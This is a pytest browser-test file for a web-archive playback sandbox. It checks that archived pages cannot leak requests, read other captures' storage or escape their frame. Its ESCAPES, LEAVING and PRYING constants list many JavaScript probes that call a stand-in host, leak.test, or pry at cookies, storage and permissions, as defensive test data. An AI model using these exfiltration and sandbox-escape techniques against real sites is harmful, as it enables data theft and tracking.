"""Copies in full in a real browser: their scripts run, and reach nothing but the capture."""

import contextlib
import json
import socket
import threading
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from datetime import timedelta

import pytest
import pytest_asyncio

from core.timestamps import timestamp14
from render.cdp import CdpConnection
from tests.playback.full_browser import BrowserTab, reader_browser, tab_in
from tests.support.playback_fixtures import NOW, FullSite, LeakListener, png

pytestmark = [pytest.mark.browser, pytest.mark.playback, pytest.mark.asyncio(loop_scope="module")]
TS = timestamp14(NOW)
PAGE = "mp_/"  # in the address of the frame that shows a page

# Each is tried by itself; what it does or throws is nothing to the next one. LEAK is where nothing may
# arrive. They stand for the ways that a browser has of asking for something (P-03).
ESCAPES = r"""
fetch('LEAK/fetch',{mode:'no-cors'})
new Request('LEAK/request'); fetch(new Request('LEAK/request'))
var x=new XMLHttpRequest;x.open('GET','LEAK/xhr');x.send()
new WebSocket('WS/ws')
new EventSource('LEAK/es')
navigator.sendBeacon('LEAK/beacon','x')
fetch('LEAK/keepalive',{keepalive:true,method:'POST',mode:'no-cors'})
(new Image).src='LEAK/img'
document.body.insertAdjacentHTML('beforeend','<img src=LEAK/html srcset="LEAK/set 2x">')
document.body.append(document.importNode(new DOMParser().parseFromString('<img src=LEAK/parser>','text/html').documentElement,true))
document.body.append(document.createRange().createContextualFragment('<img src=LEAK/range><script src=LEAK/script></'+'script>'))
var l=document.createElement('link');l.rel='prefetch';l.href='LEAK/prefetch';document.head.append(l)
var l=document.createElement('link');l.rel='preload';l.as='script';l.href='LEAK/preload';document.head.append(l)
var l=document.createElement('link');l.rel='modulepreload';l.href='LEAK/modulepreload';document.head.append(l)
var l=document.createElement('link');l.rel='preconnect';l.href='LEAK/';document.head.append(l)
var l=document.createElement('link');l.rel='dns-prefetch';l.href='LEAK/';document.head.append(l)
var l=document.createElement('link');l.rel='stylesheet';l.href='LEAK/sheet';document.head.append(l)
var l=document.createElement('link');l.rel='manifest';l.href='LEAK/manifest';document.head.append(l)
var l=document.createElement('link');l.rel='icon';l.href='LEAK/icon';document.head.append(l)
var s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:[{source:'list',urls:['LEAK/spec']}],prerender:[{source:'list',urls:['LEAK/spec']}]});document.head.append(s)
var s=document.createElement('script');s.src='LEAK/script';document.head.append(s)
var s=document.createElement('script');s.type='module';s.textContent='import "LEAK/module"';document.head.append(s)
import('LEAK/import')
var f=document.createElement('form');f.action='LEAK/post';f.method='post';document.body.append(f);f.submit()
var f=document.createElement('form');f.action='LEAK/get';f.target='_top';document.body.append(f);f.submit()
var a=document.createElement('a');a.ping='LEAK/ping';a.href='#x';document.body.append(a);a.click()
var s=document.createElement('style');s.textContent='@import "LEAK/css";@font-face{font-family:f;src:url(LEAK/font)}p{font-family:f;background:image-set("LEAK/imageset" 1x);cursor:url(LEAK/cursor),auto}';document.head.append(s);document.body.append(document.createElement('p'))
var s=new CSSStyleSheet;s.replaceSync('body{border-image:url(LEAK/adopted);list-style:u\\72l(LEAK/escaped)}');document.adoptedStyleSheets=[s]
new FontFace('g','url(LEAK/fontface)').load()
for(const n of ['iframe','embed','frame','portal','fencedframe']){var e=document.createElement(n);e.src='LEAK/'+n;document.body.append(e)}
var o=document.createElement('object');o.data='LEAK/object';document.body.append(o)
var f=document.createElement('iframe');f.srcdoc='<img src=LEAK/srcdoc><script>fetch("LEAK/srcdoc2")</'+'script>';document.body.append(f)
var f=document.createElement('iframe');f.src='data:text/html,<img src=LEAK/dataframe>';document.body.append(f)
var f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<img src=LEAK/blobframe>'],{type:'text/html'}));document.body.append(f)
var f=document.createElement('iframe');f.src="javascript:'<img src=LEAK/jsframe>'";document.body.append(f)
var v=document.createElement('video');v.src='LEAK/video';v.poster='LEAK/poster';document.body.append(v);v.play()
new Audio('LEAK/audio').play()
document.body.insertAdjacentHTML('beforeend','<svg><image href=LEAK/svg /><use href=LEAK/use#a /><script href=LEAK/svgscript /></svg>')
document.body.insertAdjacentHTML('beforeend','<table background=LEAK/table><td background=LEAK/td>')
new Worker(URL.createObjectURL(new Blob(["try{importScripts('LEAK/imported')}catch(e){};fetch('LEAK/worker');new WebSocket('WS/worker')"])))
new Worker('LEAK/worker.js')
new SharedWorker('LEAK/shared.js')
navigator.serviceWorker.register('LEAK/sw.js')
new WebTransport('https://leak.test/transport')
CSS.paintWorklet.addModule('LEAK/paint')
new AudioContext().audioWorklet.addModule('LEAK/worklet')
var m=document.createElement('meta');m.httpEquiv='Content-Security-Policy';m.content="default-src *; report-uri LEAK/report";document.head.append(m)
var b=document.createElement('base');b.href='LEAK/base/';document.head.prepend(b);var i=document.createElement('img');i.setAttribute('src','rel.png');document.body.append(i)
document.cookie='a=b;domain=leak.test'; document.domain='leak.test'
history.pushState({},'','LEAK/push')
alert(1); confirm(1); prompt(1); print()
""".strip().splitlines()
# wombat makes of these a way within the frame.
UPWARDS = (
    "open('LEAK/open'); open('LEAK/noopener','_blank','noopener')",
    "top.location='LEAK/top'",
    "parent.location.replace('LEAK/parent')",
    "top.postMessage('x','*'); top.close(); top.focus(); top.location.hash='x'",
)
# One leaves the document, so each needs one of its own.
LEAVING = (
    *UPWARDS[1:3],
    "var a=document.createElement('a');a.target='_top';a.href='LEAK/link';document.body.append(a);a.click()",
    "var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0,url=LEAK/refresh';document.head.append(m)",

    "location='LEAK/location'", "location.replace('LEAK/replace')", "location.href='data:text/html,<img src=LEAK/data>'",
    "location.href=URL.createObjectURL(new Blob(['<img src=LEAK/blob>'],{type:'text/html'}))",
    "document.write('<meta http-equiv=refresh content=\"0;url=LEAK/written\">')",
    "location.href='about:blank'", "navigation.navigate('LEAK/navigate')",
)  # fmt: skip
# Each leaves the document where it is, so one is enough for all.
STAYING = (
    UPWARDS[0], UPWARDS[3],
    "var a=document.createElement('a');a.target='_blank';a.href='LEAK/blank';document.body.append(a);a.click()",
    "var a=document.createElement('a');a.download='x';a.href='LEAK/download';document.body.append(a);a.click()",
)  # fmt: skip
TRYING = """<!DOCTYPE html><html><head><title>calm</title></head><body><script>
window.tried=0;for(const code of CODES){try{(0,eval)(code)}catch(e){};tried++}
</script></body></html>"""


def trying(codes: list[str], leak: str = "http://leak.test") -> str:
    """Return a page that evaluates all the codes; `leak` is the origin that they try to reach."""
    text = json.dumps(codes).replace("LEAK", leak).replace("WS", leak.replace("http", "ws"))
    return TRYING.replace("CODES", text.replace("</", "<\\/"))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def chromium(leak_listener: LeakListener) -> AsyncIterator[CdpConnection]:
    """Start one browser, in which each test has a browser context of its own."""
    async with reader_browser(leak_listener.port) as browser:
        yield browser


async def settle(tab: BrowserTab) -> None:
    """Let what was begun arrive where it leads: a loaded machine of our own answers a hundred times."""
    await tab.ask("new Promise(done => setTimeout(done, 700))")


async def test_the_harness_sees_a_leak(leaks: LeakListener, chromium: CdpConnection) -> None:
    """Were a page to ask for anything elsewhere, these tests would know."""
    async with tab_in(chromium) as tab:
        await tab.open("data:text/html,<img src=http://leak.test/control>")
        await settle(tab)

    assert leaks.requests != []


@pytest.mark.parametrize("raw", [False, True])
async def test_no_way_out_of_a_full_copy_is_found(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection, raw: bool
) -> None:
    """Not with pywb's rewriting, nor, what counts, without any: the policy is the wall (P-03, P-08)."""
    codes = [*ESCAPES, *UPWARDS] if raw else ESCAPES
    full.page(f"{site}/", "<title>calm</title>" if raw else trying(codes))
    full.builder.response(f"{site}/raw", trying(codes).encode())
    async with tab_in(chromium) as tab:
        await tab.open(full.view(f"{site}/"))
        if raw:
            await tab.ask(f"location.replace('/c/{TS}id_/{site}/raw')", within=PAGE)
        await tab.until(f"window.tried === {len(codes)}", within="id_/" if raw else PAGE)
        await settle(tab)

        assert await tab.address() == full.view(f"{site}/")
        assert await tab.ask("document.querySelectorAll('iframe').length") == 1
        assert not [each for each in tab.targets if each.startswith("page")]
    assert leaks.requests == []


async def test_leaving_its_frame_leads_nowhere(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection
) -> None:
    """The front's policy says what its frame may hold, whatever the page in it wants (P-14)."""
    tries = [[*STAYING], *([code] for code in LEAVING)]
    for number, codes in enumerate(tries):
        full.page(f"{site}/{number}", trying(codes))
    async with tab_in(chromium) as tab:
        for number in range(len(tries)):
            await tab.open(full.view(f"{site}/{number}"))
            await tab.ask("new Promise(done => setTimeout(done, 200))")
            assert await tab.address() == full.view(f"{site}/{number}")
        await settle(tab)
    assert leaks.requests == []


async def test_a_readers_click_leads_no_page_out_of_its_frame(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection
) -> None:
    """Only our own notice may use a click to leave it, and only for the front (P-08)."""
    catching = "window.clicked=1;try{top.location='http://leak.test/'}catch(e){};open('http://leak.test/')"
    style = "position:fixed;inset:0;display:block"
    full.page(f"{site}/", f'<div style="{style}" onclick="{catching}">x</div>')
    full.page(f"{site}/link", f'<a target="_top" style="{style}" href="{site}/next">next</a>')
    async with tab_in(chromium) as tab:
        await tab.open(full.view(f"{site}/"))
        await tab.until("document.readyState === 'complete'", within=PAGE)
        await tab.click(300, 300, until="window.clicked", within=PAGE)
        assert await tab.address() == full.view(f"{site}/")

        await tab.open(full.view(f"{site}/link"))
        await tab.until("document.readyState === 'complete'", within="/link")
        x, y = await tab.click(
            300,
            300,
            until="(r => [r.x + r.width / 2, r.y + r.height / 2])"
            "(document.querySelector('a[target=_top]').getBoundingClientRect())",
            within="mp_/" + f"{site}/next",
        )
        top = await tab.ask("document.querySelector('iframe').getBoundingClientRect().y")
        await tab.click(int(x), int(y + top), until=f"location.href.startsWith('{full.served.front}/page/')")
    assert leaks.requests == []


KEEPING = """<!DOCTYPE html><title>keeping</title><script>
localStorage.setItem('kept', 'A'); sessionStorage.setItem('kept', 'A'); document.cookie = 'kept=A; path=/';
caches.open('kept'); const kept = indexedDB.open('kept'); kept.onupgradeneeded = () => kept.result.createObjectStore('kept');
window.heard = []; new BroadcastChannel('c').onmessage = (event) => heard.push(event.data);
window.seen = {
  local: localStorage.getItem('before'), cookie: document.cookie,
};
</script>"""
# Asks the browser itself, past our stand-ins: in the realm of a frame that has none.
PRYING = """<!DOCTYPE html><title>prying</title><script>
(async () => {
  const found = {};
  const attempt = async (name, look) => { try { found[name] = await look() } catch (error) { found[name] = error.name } };
  new BroadcastChannel('c').postMessage('from B');
  await attempt('local', () => localStorage.getItem('kept'));
  await attempt('session', () => sessionStorage.getItem('kept'));
  await attempt('cookie', () => document.cookie);
  await attempt('cache', async () => (await caches.has('kept')) ? 'open' : 'shut');
  await attempt('database', () => new Promise((done, failed) => { const r = indexedDB.open('kept'); r.onsuccess = () => done(r.result.objectStoreNames.length ? 'open' : 'shut'); r.onerror = () => failed(r.error) }));
  await attempt('worker', async () => (await navigator.serviceWorker.register('/sw.js')).scope);
  await attempt('front', async () => (await fetch('FRONT/api/pages')).status);
  await attempt('other', async () => (await fetch('OTHER')).status);
  await attempt('otherFrame', () => new Promise((done) => { const f = document.createElement('iframe'); f.src = 'OTHER'; f.onload = () => { try { done(f.contentDocument ? 'open' : 'shut') } catch (e) { done(e.name) } }; document.body.append(f) }));
  await attempt('parent', () => window.parent.document.title);
  await attempt('parentAddress', () => window.parent.location.href);
  await attempt('storageAccess', async () => { await document.requestStorageAccess(); return 'granted' });
  await attempt('files', async () => { await navigator.storage.getDirectory(); return 'open' });
  await attempt('lock', () => navigator.locks.request('kept', () => 'held'));
  await attempt('camera', async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return 'open' });
  await attempt('place', () => new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('told'), () => done('refused'))));
  await attempt('notice', async () => await Notification.requestPermission());
  window.found = found;
})();
</script><body></body>"""
SHUT = {
    "NotFoundError",
    "default",
    "SecurityError",
    "TypeError",
    "NotAllowedError",
    "InvalidStateError",
    "ReferenceError",
    "denied",
    "refused",
    "shut",
    None,
    "",
}


@pytest.mark.parametrize("raw", [False, True])
async def test_a_capture_reads_nothing_of_another_nor_of_the_front(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection, raw: bool
) -> None:
    """Storage, cookies, caches, channels, documents, permissions: of the same site's other capture (P-04, P-05, P-07)."""
    later = NOW + timedelta(hours=1)
    full.page(f"{site}/", KEEPING)
    other = full.frame(f"{site}/")
    text = PRYING.replace("FRONT", full.served.front).replace("OTHER", other)
    full.page(f"{site}/", text, at=later)
    async with tab_in(chromium) as tab:
        await tab.open(full.view(f"{site}/"))
        await tab.until("window.seen", within=TS)
        await tab.ask(f"window.open('{full.view(f'{site}/', at=later)}') && 1")
        await tab.open(full.view(f"{site}/", at=later))
        where = f"{timestamp14(later)}{PAGE}"
        if raw:
            await tab.ask("location.replace(location.href.replace('mp_/','id_/'))", within=where)
            where = "id_/"
        outcomes = await tab.until("window.found", within=where)

    # To wombat the page's own window is its parent, and the front a site that was not captured.
    own = set() if raw else {404, "prying", f"{site}/"}
    assert {name: value for name, value in outcomes.items() if value not in SHUT | own} == {}


async def test_nothing_is_kept_between_two_views(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection
) -> None:
    """A capture looks the same each time: what it kept is gone with its page."""
    text = KEEPING.replace(
        "localStorage.setItem", "window.was=localStorage.getItem('kept')+document.cookie;localStorage.setItem"
    )
    full.page(f"{site}/", text)
    async with tab_in(chromium) as tab:
        for _ in range(2):
            await tab.open(full.view(f"{site}/"))
            assert await tab.until("window.was", within=PAGE) == "null"
            assert await tab.ask("localStorage.kept + document.cookie", within=PAGE) == "Akept=A"


async def test_no_service_worker_is_registered_on_any_path(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection
) -> None:
    """From the page, from a frame in it, and by typed addresses of scripts (P-06)."""
    full.page(f"{site}/", "<title>x</title>")
    full.builder.response(f"{site}/sw.js", b"self.onfetch=()=>{}", mime="text/javascript")
    paths = [f"/c/{TS}{modifier}/{site}/sw.js" for modifier in ("js_", "sw_", "mp_", "id_", "wkr_")]
    async with tab_in(chromium) as tab:
        await tab.open(full.view(f"{site}/"))
        await tab.ask("location.replace(location.href.replace('mp_/','id_/'))", within=PAGE)
        outcomes = await tab.ask(
            f"Promise.all({json.dumps([*paths, '/.weboid/wombat.js', '/sw.js'])}.map(async path => {{"
            "try { await navigator.serviceWorker.register(path); return path } catch (e) { return e.name } }))",
            within="id_/",
        )

    assert set(outcomes) == {"SecurityError"}


APPLICATION = """<!DOCTYPE html><html><head><title>app</title>
<script type="importmap">{"imports":{"lib":"/assets/lib.js"}}</script>
<style>@font-face{font-family:X;src:url(/f.woff2)} body{background:rgb(0,0,255)}</style></head><body>
<canvas id="c" width="50" height="50"></canvas><pre id="out"></pre>
<script>window.out = {};
const say = (name, value) => { out[name] = String(value) };
say('storage', (localStorage.setItem('a', 1), localStorage.b = 2, localStorage.getItem('a') + localStorage.b + Object.keys(localStorage)));
say('cookie', (document.cookie = 'a=b; path=/', document.cookie));
history.pushState({x: 1}, '', '/app/two'); say('route', location.pathname + history.state.x);
say('address', location.origin + ' ' + document.domain + ' ' + (window.top === window));
say('time', new Date().toISOString().slice(0, 16));
const database = indexedDB.open('x', 2);
database.onupgradeneeded = ({ oldVersion, newVersion }) => {
  const store = database.result.createObjectStore('bridges', { keyPath: 'id', autoIncrement: true });
  store.createIndex('of', 'year'); for (const year of [1912, 1850, 1999]) store.add({ year });
  say('upgrade', oldVersion + ' ' + newVersion);
};
database.onsuccess = () => {
  const change = database.result.transaction('bridges', 'readwrite'), store = change.objectStore('bridges'), years = [];
  store.put({ id: 2, year: 1851 }); store.delete(3); store.add({ id: 1 }).onerror = (event) => { years.push(event.target.error.name); event.preventDefault() };
  store.index('of').openCursor(IDBKeyRange.lowerBound(1800), 'prev').onsuccess = ({ target }) => {
    const cursor = target.result; if (cursor) { years.push(cursor.value.year + '/' + cursor.primaryKey); cursor.continue(); } };
  change.oncomplete = () => { database.result.transaction('bridges').objectStore('bridges').count().onsuccess = ({ target }) =>
    say('database', years + ' ' + target.result + (target instanceof IDBRequest)) };
};
const later = (name, promise) => promise.then((value) => say(name, value), (error) => say(name, error));
later('fetch', fetch('/api/data.json').then((r) => r.json()).then((j) => j.v));
later('elsewhere', fetch('https://other.example/api', {credentials: 'include', headers: {'X-Asked': 'x'}}).then((r) => r.text()));
later('missing', fetch('/api/none').then((r) => r.status));
later('post', fetch('/api/data.json', {method: 'POST', body: 'x'}).then((r) => r.status));
later('posted', fetch('/api/search', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({q: 'bridge', at: Date.now()})}).then((r) => r.text()));
const fields = new FormData(); fields.set('q', 'tram');
later('form', fetch(new Request('/api/search', {method: 'POST', body: fields})).then((r) => r.text()));
const p = new XMLHttpRequest(); p.open('POST', '/api/search'); p.onload = () => say('xhrPosted', p.responseText); p.send(new URLSearchParams({q: 'road'}));
later('dynamic', import('/assets/lib.js').then((m) => m.name));
const x = new XMLHttpRequest(); x.withCredentials = true; x.open('GET', '/api/data.json'); x.onload = () => say('xhr', x.responseText); x.send();
const w = new Worker('/w.js'); w.onmessage = (event) => say('worker', event.data);
const m = new Worker('/wm.js', {type: 'module'}); m.postMessage('early'); m.onmessage = (event) => say('moduleWorker', event.data);
const i = new Image(); i.crossOrigin = 'anonymous'; i.onload = () => { const c = document.getElementById('c').getContext('2d'); c.drawImage(i, 0, 0, 50, 50); say('canvas', c.getImageData(1, 1, 1, 1).data) }; i.src = '/i.png';
</script>
<script type="module">import { name } from "lib"; say('inline', name + window.location.pathname)</script>
<script type="module" src="/assets/app.js"></script>
<script>document.write('<p id="written">w</p>'); say('written', !!document.getElementById('written'))</script>
<iframe src="/frame"></iframe></body></html>"""


async def test_an_application_runs_as_it_did(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection
) -> None:
    """Modules, workers, requests, routes and drawing of the archived page, all out of the archive."""
    page = full.page(f"{site}/app", APPLICATION)

    def part(url: str, body: str | bytes, mime: str) -> None:
        data = body.encode() if isinstance(body, str) else body
        full.builder.response(url, data, mime=mime, page_id=page)

    part(
        f"{site}/assets/app.js",
        'import{name}from"./lib.js";import{name as n2}from"lib";const m=await import("./lazy.js");say("module",name+n2+m.default);export default 1',
        "text/javascript",
    )
    part(f"{site}/assets/lib.js", 'export const name="lib"', "application/javascript")
    part(f"{site}/assets/lazy.js", "export default document.title", "text/plain")
    part(f"{site}/api/data.json", '{"v":7}', "application/json")
    for answer, kind, body in (
        ("a bridge", "application/json", b'{"q":"bridge","at":1700000000000}'),
        ("a tram", "multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="q"\r\n\r\ntram\r\n--x--\r\n'),
        ("a road", "application/x-www-form-urlencoded", b"q=road"),
    ):  # fmt: skip
        full.builder.response(
            f"{site}/api/search", answer.encode(), mime="text/plain", page_id=page, posted=(kind, body)
        )
    part("https://other.example/api", "other", "text/plain")
    part(
        f"{site}/w.js",
        'importScripts("/wi.js");fetch("/api/data.json").then(r=>r.json()).then(j=>postMessage(wi+j.v),e=>postMessage(""+e))',
        "text/javascript",
    )
    part(f"{site}/wi.js", 'var wi="imported"', "text/javascript")
    part(
        f"{site}/wm.js",
        'import {name} from "./assets/lib.js";const x = new XMLHttpRequest();'
        "onmessage=async(e)=>{const v=(await(await fetch(new Request('SITE/api/data.json'))).json()).v;"
        "x.onload=()=>postMessage(name+e.data+v+x.response);x.open('GET','api/data.json');x.send()}".replace(
            "SITE", site
        ),
        "text/javascript",
    )
    part(f"{site}/i.png", png("lime", (40, 40)), "image/png")
    part(f"{site}/frame", "<script>parent.postMessage({frame: location.pathname}, '*')</script>", "text/html")
    wanted = {
        "storage": "12a,b", "cookie": "a=b", "route": "/app/two1", "address": f"{site} {site[8:]} true",
        "time": "2026-03-01T12:00", "upgrade": "0 2", "database": "ConstraintError,1912/1,1851/2 2true", "fetch": "7",
        "elsewhere": "other", "missing": "404",
        "post": "404", "posted": "a bridge", "form": "a tram", "xhrPosted": "a road",
        "dynamic": "lib", "xhr": '{"v":7}', "worker": "imported7", "moduleWorker": 'libearly7{"v":7}',
        "canvas": "0,255,0,255", "inline": "lib/app/two", "module": "libliblazy"[:6] + "app", "written": "true",
    }  # fmt: skip
    async with tab_in(chromium) as tab:
        await tab.open(full.view(f"{site}/app"))
        with contextlib.suppress(TimeoutError):  # what is missing then, the comparison says
            await tab.until(f"Object.keys(window.out || {{}}).length >= {len(wanted)}", within=PAGE)
        out = await tab.ask("window.out", within=PAGE)

    assert out == wanted
    assert leaks.requests == []


MADE = """<!DOCTYPE html><title>made</title><script>window.out = {};
const say = (name, value) => { out[name] = String(value) }; let shared = "one"; class Named { name = "class" }
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
const start = (name, worker) => { worker.onmessage = ({ data }) => say(name, data); worker.onerror = ({ message }) => say(name, message); worker.postMessage(1) };
start("blob", new Worker(blob(`importScripts("${location.origin}/wi.js"); onmessage = async () => postMessage(wi + (await fetch("${location.origin}/data.json").then((r) => r.json())).v)`)));
start("blobModule", new Worker(blob(`import { name } from "${location.origin}/lib.js"; onmessage = () => postMessage(name)`), { type: "module" }));
start("data", new Worker("data:text/javascript,onmessage=()=>postMessage('data')"));
import(blob(`export { name } from "${location.origin}/lib.js"`)).then((made) => say("imported", made.name), (error) => say("imported", error));
navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(async (registration) => {
  if (!navigator.serviceWorker.controller) await new Promise((done) => { navigator.serviceWorker.oncontrollerchange = done });
  say("serviceWorker", navigator.serviceWorker.controller.state + registration.active.scriptURL) });
caches.open("c").then(async (cache) => { await cache.addAll(["/data.json"]); say("cache", await (await caches.match("/data.json")).text()) });
const frame = document.createElement("iframe");
frame.src = "data:text/html," + encodeURIComponent(`<img src="${location.origin}/i.png">`);
document.documentElement.append(frame);</script>
<script>shared += " two"; const first = () => shared; say("shared", shared + new Named().name)</script>
<script>shared += " three"; say("one", first())</script>
<script type="module">import sheet from "/style.css" with { type: "css" }; import data from "/data.json" with { type: "json" };
say("kinds", sheet.cssRules.length + data.v)</script>"""


async def test_what_scripts_make_comes_out_of_the_archive(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection
) -> None:
    """Workers, modules and frames of texts, caches, names shared by scripts; a service worker seems there."""
    page = full.page(f"{site}/made", MADE)
    for name, body, mime in (
        ("wi.js", b'var wi="imported"', "text/javascript"),
        ("lib.js", b'export const name="lib"', "text/javascript"),
        ("data.json", b'{"v":7}', "application/json"),
        ("style.css", b"p { color: red }", "text/css"),
        ("i.png", png("lime", (40, 40)), "image/png"),
    ):
        full.builder.response(f"{site}/{name}", body, mime=mime, page_id=page)
    wanted = {
        "blob": "imported7", "blobModule": "lib", "data": "data", "imported": "lib", "cache": '{"v":7}',
        "serviceWorker": f"activated{site}/sw.js",
        "shared": "one twoclass", "one": "one two three", "kinds": "8",
    }  # fmt: skip
    async with tab_in(chromium) as tab:
        await tab.open(full.view(f"{site}/made"))
        with contextlib.suppress(TimeoutError):  # what is missing then, the comparison says
            await tab.until(f"Object.keys(window.out || {{}}).length >= {len(wanted)}", within=PAGE)
        out = await tab.ask("window.out", within=PAGE)
        await tab.until("document.images[0].naturalWidth === 40", within="blob:")

    assert out == wanted
    assert leaks.requests == []


FRAMED = """<!DOCTYPE html><title>frames</title><frameset cols="30%,70%">
<frame src="inner.html"><frame src="sub/deep.html"></frameset>"""
DEEP = """<iframe src="../deeper.html"></iframe><object type="image/svg+xml" data="../picture.svg"></object>
<iframe src="data:text/html,<script>document.title='data'</script>"></iframe>
<script>const made = document.createElement("iframe"); const text = `<img src="${location.origin}/dir/icons.svg">`;
made.src = URL.createObjectURL(new Blob([text], { type: "text/html" })); document.body.append(made)</script>"""


async def test_relative_frames_are_shown(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection
) -> None:
    """Of framesets, of frames within them, pictures in objects, parts of drawings, and documents in data: addresses."""
    page = full.page(f"{site}/dir/page.html", FRAMED)
    titled = "<script>document.title='{}'</script><svg><use href='icons.svg#star'/></svg>"
    for path, body, mime in (
        ("/dir/inner.html", titled.format("inner"), "text/html"),
        ("/dir/sub/deep.html", DEEP, "text/html"),
        ("/dir/deeper.html", titled.format("deeper"), "text/html"),
        ("/dir/picture.svg", '<svg xmlns="http://www.w3.org/2000/svg"><title>drawn</title></svg>', "image/svg+xml"),
    ):
        full.builder.response(f"{site}{path}", body.encode(), mime=mime, page_id=page)
    full.builder.response(
        f"{site}/dir/icons.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><symbol id="star"><path d="M0 0H9V9"/></symbol></svg>',
        mime="image/svg+xml",
        page_id=page,
    )
    async with tab_in(chromium) as tab:
        await tab.open(full.view(f"{site}/dir/page.html"))
        for within, title in (
            (f"fr_/{site}/dir/inner.html", "inner"),
            (f"if_/{site}/dir/deeper.html", "deeper"),
            (f"oe_/{site}/dir/picture.svg", "drawn"),
            ("data:text/html", "data"),
        ):
            await tab.until(f"document.title === {title!r}", within=within)
        await tab.until("document.images[0].naturalWidth > 0", within="blob:")
        drawn = "document.querySelector('use').getBBox().width === 9"
        await tab.until(drawn, within=f"fr_/{site}/dir/inner.html")
    assert leaks.requests == []


async def test_the_banner_is_ours_whatever_the_page_paints(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection
) -> None:
    """Content that covers the frame from edge to edge stays below the banner (P-09)."""
    full.page(
        f"{site}/",
        "<style>html,body,div{position:fixed;inset:-500px;background:red;z-index:2147483647}</style>"
        "<div>Archived on 1 January 1999</div>",
    )
    async with tab_in(chromium) as tab:
        await tab.open(full.view(f"{site}/"))
        await tab.until("document.readyState === 'complete'", within=PAGE)
        edges = await tab.ask(
            "[document.querySelector('.banner').getBoundingClientRect().bottom,"
            " document.querySelector('iframe').getBoundingClientRect().top]"
        )
        above = await tab.ask("document.elementFromPoint(300, 20).closest('.banner') !== null")

    assert edges[0] <= edges[1]
    assert above


@dataclass
class UdpListener:
    """UDP port that stores what arrives."""

    port: int
    received: list[bytes] = field(default_factory=list)


@pytest.fixture
def datagrams() -> Iterator[UdpListener]:
    """Listen for UDP datagrams on 127.0.0.1."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(0.2)
        listener, ended = UdpListener(server.getsockname()[1]), threading.Event()

        def listen() -> None:
            while not ended.is_set():
                try:
                    listener.received.append(server.recv(2000))
                except TimeoutError:
                    continue

        thread = threading.Thread(target=listen)
        thread.start()
        yield listener
        ended.set()
        thread.join()


async def test_calls_to_other_machines_are_not_made(
    full: FullSite, site: str, leaks: LeakListener, chromium: CdpConnection, datagrams: UdpListener
) -> None:
    """WebRTC, which no content policy stops, is not there; where it is, Connection-Allowlist stops it."""
    call = (
        f"var p=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{datagrams.port}'}}]}});"
        "p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))"
    )
    full.page(f"{site}/", trying([call]))
    async with tab_in(chromium) as tab:
        await tab.open("about:blank")
        await tab.ask(call)  # the listener hears one that may be made
        await tab.ask("new Promise(done => setTimeout(done, 500))")
        datagram_count = len(datagrams.received)
        await tab.open("data:text/html,over")
        datagrams.received.clear()
        await tab.open(full.view(f"{site}/"))
        await tab.until("window.tried", within=PAGE)
        await tab.ask("typeof RTCPeerConnection + typeof WebTransport", within=PAGE)
        await settle(tab)

    assert datagram_count > 0
    assert datagrams.received == []
